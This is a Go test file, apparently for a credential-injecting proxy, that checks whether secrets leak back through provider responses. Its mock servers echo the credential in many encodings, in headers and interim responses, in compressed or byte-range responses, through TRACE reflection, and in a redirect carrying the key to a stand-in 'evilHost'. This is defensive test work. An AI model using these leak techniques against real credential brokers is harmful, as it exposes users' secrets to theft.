package attack_test

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"
)

// awkward is the beginning of a secret that every encoder changes.
const awkward = `s3cr3t/vic+tim=&"<k>\ ~%`

// pairedHost belongs to a provider that wants Basic credentials.
const (
	pairedHost = "api.paired.test"
	pairedUser = "alice@paired.test"
)

// renderings are what programs make of a secret, by the name of the form. None of it comes from the program under test.
func renderings(secret string) map[string]string {
	marshalled, _ := json.Marshal(secret) //nolint:errchkjson // a string
	var plain bytes.Buffer
	e := json.NewEncoder(&plain)
	e.SetEscapeHTML(false)
	_ = e.Encode(secret)
	unquoted := plain.String()[1 : len(strings.TrimSpace(plain.String()))-1]
	forms := map[string]string{
		"exact":               secret,
		"JSON":                string(marshalled[1 : len(marshalled)-1]),
		"JSON, HTML as it is": unquoted,
		"JSON, slashes":       strings.ReplaceAll(unquoted, "/", `\/`),
		"query":               url.QueryEscape(secret),
		"path":                url.PathEscape(secret),
		"HTML":                html.EscapeString(secret),
		"hexadecimal":         hex.EncodeToString([]byte(secret)),
		"HEXADECIMAL":         strings.ToUpper(hex.EncodeToString([]byte(secret))),
		"base64":              base64.StdEncoding.EncodeToString([]byte(secret)),
		"base64 for URLs":     base64.RawURLEncoding.EncodeToString([]byte(secret)),
	}
	forms["query, small digits"] = strings.NewReplacer("%2F", "%2f", "%2B", "%2b", "%3D", "%3d", "%3C", "%3c", "%3E", "%3e",
		"%5C", "%5c", "%7E", "%7e").Replace(forms["query"])
	forms["base64 in a query"] = url.QueryEscape(forms["base64"])
	return forms
}

// sent returns the secrets in the credential of a request: the key, or password and pair.
func sent(r *http.Request) []string {
	if user, password, ok := r.BasicAuth(); ok {
		return []string{password, user + ":" + password}
	}
	return []string{strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")}
}

// echoes answers with all that it can make of the credential: in fields, trailers, an interim response and the body, which
// it sends in pieces of the length that the query gives.
func echoes(rw http.ResponseWriter, r *http.Request) {
	n, _ := strconv.Atoi(r.URL.Query().Get("piece"))
	secrets := sent(r)
	h := rw.Header()
	if r.URL.Query().Has("interim") {
		h.Set("Link", "</"+secrets[0]+">")
		h.Set("Set-Cookie", "early="+secrets[0])
		rw.WriteHeader(http.StatusEarlyHints)
		clear(h)
	}
	h.Set("Trailer", "X-End")
	var body strings.Builder
	for _, secret := range secrets {
		for _, form := range renderings(secret) {
			body.WriteString("<" + form + ">")
			h.Add("X-Echo", form)
		}
	}
	h.Set("Location", "https://"+evilHost+"/?key="+url.QueryEscape(secrets[0]))
	h.Set("X-Length", strconv.Itoa(body.Len()))
	status := http.StatusOK
	if s := r.URL.Query().Get("status"); s != "" {
		status, _ = strconv.Atoi(s)
	}
	rw.WriteHeader(status)
	control := http.NewResponseController(rw)
	for text := body.String(); text != ""; {
		part := text[:min(max(n, 1), len(text))]
		text = text[len(part):]
		_, _ = io.WriteString(rw, part)
		_ = control.Flush()
	}
	if r.URL.Path == "/torn" {
		_, _ = io.WriteString(rw, secrets[0][:len(secrets[0])-1])
		_ = control.Flush()
		panic(http.ErrAbortHandler)
	}
	h.Set("X-End", secrets[0])
}

// holds returns the name of a form of one of the secrets that is in an answer, or "".
func (a answer) holds(secrets ...string) string {
	var all strings.Builder
	all.WriteString(a.body + "\n")
	for _, h := range []http.Header{a.Header, a.Trailer} {
		for name, values := range h {
			all.WriteString(name + ": " + strings.Join(values, "\n") + "\n")
		}
	}
	for _, secret := range secrets {
		for name, form := range renderings(secret) {
			if strings.Contains(all.String(), form) {
				return name
			}
		}
	}
	return ""
}

// 21: the provider shows what it was sent.
func echoed(t *testing.T) {
	w := newWorld(t, setup{secret: awkward, victim: echoes})
	paired := serve(t, w.ca, pairedHost, echoes)
	w.resolve(pairedHost+":443", paired)
	w.home.Register(t, `{"schema_version": 1, "name": "paired", "display_name": "Paired", "auth_type": "basic", "flow": "basic",
		"host_url": "`+pairedHost+`", "export": {"env": {"password": "PAIRED_PASSWORD"}}, "api_key": {"env_var": "PAIRED_PASSWORD",
		"fields": [{"name": "username", "label": "User", "public": true, "env_var": "PAIRED_USER"}]}}`)
	password := w.secret + "-password"
	lines, _ := json.Marshal(map[string]string{"username": pairedUser, "password": password}) //nolint:errchkjson // strings
	w.home.MustWith(t, string(lines), "login", "paired", "--with-token")
	r := w.run(t)
	secrets := map[string][]string{victimHost: {w.secret}, pairedHost: {password, pairedUser + ":" + password}}
	for _, http2 := range []bool{false, true} {
		tr := r.transport(t, http2)
		for host, secret := range secrets {
			for _, path := range []string{"?piece=1", "?piece=7", "?piece=100000", "error?piece=50&status=500", "error?piece=50&status=401"} {
				a := fetch(t, tr, "GET", "https://"+host+"/"+path, nil, nil)
				if form := a.holds(secret...); form != "" || a.err != nil || strconv.Itoa(len(a.body)) != a.Header.Get("X-Length") {
					t.Fatalf("HTTP/2 %t, %s%s gave the secret back (%s): %s", http2, host, path, form, a)
				}
			}
			a := fetch(t, tr, "GET", "https://"+host+"/torn?piece=11", nil, nil)
			if form := a.holds(secret[0], secret[0][:len(secret[0])-1]); form != "" || a.err == nil {
				t.Fatalf("HTTP/2 %t, an answer of %s that breaks off gave the secret (%s): %s", http2, host, form, a)
			}
		}
	}
	for _, n := range append(w.victim.seen(), paired.seen()...) {
		if n.Header.Get("Authorization") == "" {
			t.Fatalf("no credential went out, so that none could come back: %s", n)
		}
	}
	s := r.victim(t)
	early := s.ask(t, get("/?interim", ""))
	early.expect(t, "an interim response", http.StatusEarlyHints)
	if form := early.holds(w.secret); form != "" || early.Header.Get("Link") == "" {
		t.Fatalf("an interim response gave the secret (%s): %s", form, early)
	}
	s.answer(t, "GET").expect(t, "the response after it", http.StatusOK)
	w.traced(t, r)
	otherAccounts(t)
	r.end()
	if log := w.home.Must(t, "log", "--json", "--event", "redact"); !strings.Contains(log, `"covered":`) {
		t.Errorf("what was covered is not in the audit log: %s", log)
	}
}

// traced is the rest of 21: methods that are made to show the request.
func (w *world) traced(t *testing.T, r *running) {
	t.Helper()
	before := len(w.victim.seen())
	for _, method := range []string{"TRACE", "TRACK", "trace", "Trace"} {
		a := r.victim(t).ask(t, method+" / HTTP/1.1\r\nHost: "+victimHost+"\r\n\r\n")
		a.expect(t, method, http.StatusMethodNotAllowed, http.StatusBadRequest)
		status := r.frames(t).ask(t, ":method", method, ":scheme", "https", ":path", "/", ":authority", victimHost)
		if status != http.StatusMethodNotAllowed && status != http.StatusBadRequest && status != 0 {
			t.Errorf("%s over HTTP/2: %d", method, status)
		}
	}
	if n := len(w.victim.seen()); n != before {
		t.Errorf("%d requests reached the provider", n-before)
	}
}

// coders are the content codings of RFC 9110, and of RFC 7932 and RFC 8878.
func coders() map[string]func(io.Writer) io.WriteCloser {
	gz := func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }
	return map[string]func(io.Writer) io.WriteCloser{
		"gzip": gz, "x-gzip": gz, "GZIP": gz,
		"deflate":     func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) },
		"raw deflate": func(w io.Writer) io.WriteCloser { e, _ := flate.NewWriter(w, 6); return e },
		"br":          func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) },
		"zstd":        func(w io.Writer) io.WriteCloser { e, _ := zstd.NewWriter(w); return e },
		"gzip, br": func(w io.Writer) io.WriteCloser {
			outer := brotli.NewWriter(w)
			return &both{gzip.NewWriter(outer), outer}
		},
	}
}

// both is a coding within another.
type both struct {
	io.WriteCloser
	outer io.Closer
}

// Close ends both.
func (b *both) Close() error {
	if err := b.WriteCloser.Close(); err != nil {
		return err
	}
	return b.outer.Close()
}

// coded answers in the content coding of the query, with the secret over and over.
func coded(rw http.ResponseWriter, r *http.Request) {
	coding := r.URL.Query().Get("coding")
	text := strings.Repeat("before "+sent(r)[0]+" after ", 50)
	encode := coders()[coding]
	rw.Header().Set("Content-Encoding", strings.TrimPrefix(coding, "raw "))
	if encode == nil {
		_, _ = io.WriteString(rw, text)
		return
	}
	var b bytes.Buffer
	e := encode(&b)
	_, _ = io.WriteString(e, text)
	_ = e.Close()
	for control := http.NewResponseController(rw); b.Len() > 0; _ = control.Flush() {
		_, _ = rw.Write(b.Next(13))
	}
}

// messages answers as gRPC does, with two messages that are compressed.
func messages(rw http.ResponseWriter, r *http.Request) {
	coding := r.URL.Query().Get("coding")
	rw.Header().Set("Content-Type", "application/grpc")
	rw.Header().Set("Grpc-Encoding", coding)
	for range 2 {
		var b bytes.Buffer
		flags := byte(0)
		if encode := coders()[coding]; encode != nil {
			flags = 1
			e := encode(&b)
			_, _ = io.WriteString(e, "before "+sent(r)[0]+" after")
			_ = e.Close()
		} else {
			_, _ = io.WriteString(&b, "before "+sent(r)[0]+" after")
		}
		_, _ = rw.Write(binary.BigEndian.AppendUint32([]byte{flags}, uint32(b.Len())))
		_, _ = rw.Write(b.Bytes())
	}
}

// 22: the answer is compressed, in a form of its own, or a part of one.
func compressedEcho(t *testing.T) {
	w := newWorld(t, setup{secret: awkward, victim: func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/messages":
			messages(rw, r)
			return
		case "/parts":
			text := "before " + sent(r)[0] + strings.Repeat(" after", 10)
			if other := r.Header.Get("Request-Range"); other != "" { // as Apache has it
				r.Header.Set("Range", other)
			}
			http.ServeContent(rw, r, "text.bin", time.Time{}, strings.NewReader(text))
			return
		case "/part", "/page":
		default:
			coded(rw, r)
			return
		}
		secret := sent(r)[0] // a server that sends parts without being asked
		unit := map[string]string{"/part": "bytes", "/page": "items"}[r.URL.Path]
		rw.Header().Set("Content-Range", fmt.Sprintf("%s 9-%d/1000", unit, 8+len(secret)))
		rw.WriteHeader(http.StatusPartialContent)
		_, _ = io.WriteString(rw, secret[9:]+" after")
	}})
	r := w.run(t)
	for _, http2 := range []bool{false, true} {
		tr := r.transport(t, http2)
		for coding := range coders() {
			a := fetch(t, tr, "GET", "https://"+victimHost+"/?coding="+url.QueryEscape(coding), nil, nil)
			a.expect(t, coding, http.StatusOK)
			if form := a.holds(w.secret); form != "" || strings.Count(a.body, " after ") != 50 || a.Header.Get("Content-Encoding") != "" {
				t.Fatalf("HTTP/2 %t, %s: the answer holds the secret (%s), or cannot be read: %s", http2, coding, form, a)
			}
		}
		for _, coding := range []string{"x-own", "compress", "gzip, x-own", "dcb", "aes128gcm"} {
			a := fetch(t, tr, "GET", "https://"+victimHost+"/?coding="+url.QueryEscape(coding), nil, nil)
			if a.StatusCode != http.StatusBadGateway || a.reason() != "undecodable" {
				t.Fatalf("HTTP/2 %t, an answer in %s was passed on: %s", http2, coding, a)
			}
		}
		for _, coding := range []string{"gzip", "deflate", "identity", "snappy"} {
			a := fetch(t, tr, "POST", "https://"+victimHost+"/messages?coding="+coding, nil, nil)
			if coding == "snappy" {
				if a.StatusCode != http.StatusBadGateway || a.reason() != "undecodable" {
					t.Fatalf("HTTP/2 %t, messages in %s were passed on: %s", http2, coding, a)
				}
				continue
			}
			if form := a.holds(w.secret); form != "" || strings.Count(a.body, " after") != 2 {
				t.Fatalf("HTTP/2 %t, messages in %s hold the secret (%s), or cannot be read: %s", http2, coding, form, a)
			}
		}
		var together strings.Builder // byte by byte, each from a request of its own
		for at := range 60 {
			a := fetch(t, tr, "GET", "https://"+victimHost+"/parts", nil, func(r *http.Request) {
				r.Header.Set("Range", fmt.Sprintf("bytes=%d-%d", at, at))
			})
			a.expect(t, "a byte", http.StatusPartialContent)
			together.WriteString(a.body)
		}
		if text := together.String(); strings.Contains(text, w.secret[:6]) || strings.Contains(text, w.secret[len(w.secret)-6:]) ||
			!strings.HasPrefix(text, "before ") || len(text) != 60 {
			t.Fatalf("HTTP/2 %t, parts gave the secret together: %q", http2, text)
		}
		a := fetch(t, tr, "GET", "https://"+victimHost+"/part", nil, func(r *http.Request) {
			r.Header.Set("Range", "bytes=9-")
		})
		if a.StatusCode != http.StatusBadGateway || a.reason() != "undecodable" {
			t.Fatalf("HTTP/2 %t, another part than was asked for was passed on: %s", http2, a)
		}
		for path, whole := range map[string]bool{"/part": false, "/page": true} {
			a = fetch(t, tr, "GET", "https://"+victimHost+path, nil, func(r *http.Request) {
				r.Header.Set("Range", "bytes=9-12,14-")
				r.Header.Set("If-Range", `"x"`)
				r.Header.Set("Accept-Encoding", "x-own, dcb, br;q=0.5")
			})
			if strings.Contains(a.body, w.secret[9:]) || strings.HasSuffix(a.body, " after") != whole || whole != (a.reason() != "undecodable") {
				t.Fatalf("HTTP/2 %t, %s gave a part of the secret: %s", http2, path, a)
			}
		}
		a = fetch(t, tr, "GET", "https://"+victimHost+"/parts", nil, func(r *http.Request) {
			r.Header.Set("Request-Range", "bytes=9-12")
		})
		if a.StatusCode != http.StatusBadGateway || a.reason() != "undecodable" {
			t.Fatalf("HTTP/2 %t, a part that was asked for in another way was passed on: %s", http2, a)
		}
	}
	for _, n := range w.victim.seen() {
		accepts := n.Header.Get("Accept-Encoding")
		if spec := n.Header.Get("Range"); strings.Contains(spec, ",") || n.Header.Get("If-Range") != "" || strings.Contains(accepts, "x-own") || strings.Contains(accepts, "dcb") {
			t.Errorf("the provider was asked for what cannot be looked through: %s", n)
		}
	}
}
